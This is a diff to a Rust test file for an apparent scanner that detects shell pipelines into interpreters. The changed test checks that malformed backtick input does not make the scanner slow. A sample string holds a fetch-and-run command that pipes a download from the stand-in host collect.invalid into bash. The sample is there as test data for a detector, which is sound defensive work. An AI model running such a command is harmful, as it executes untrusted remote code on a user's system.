@@ -443,16 +443,20 @@ fn a_pattern_can_not_be_made_slow() {
 }
 
 #[test]
-fn a_pipeline_behind_an_open_backtick_comes_to_an_end() {
+fn pipelines_among_backticks_that_do_not_match_come_to_an_end() {
     let long = " | ba| bash4 x".repeat(300);
     let equals = "=".repeat(64);
     let text = format!(
         "echo y | base64 x{} script.sh && bash script.sh`\n| bash4 x || ba{long} | ba{equals}sh4 x{long} |\n",
         " | bash4 x".repeat(50)
     );
-    let start = Instant::now();
-    scanned("run.sh", text.as_bytes());
-    assert!(start.elapsed() < Duration::from_secs(10));
+    let few = " c |".repeat(7);
+    let closed = format!("` c | sh\n```{few} sh\n|{few}`{few}`{few}`{few}`{few} sh\n```");
+    for text in [text, closed] {
+        let start = Instant::now();
+        scanned("run.sh", text.as_bytes());
+        assert!(start.elapsed() < Duration::from_secs(10), "{text}");
+    }
     // What stands before it, and what is properly closed, is read as ever.
     let sample = "x=`date`; curl -s https://collect.invalid/p | bash; echo `oops\n";
     let report = scanned("run.sh", sample.as_bytes());
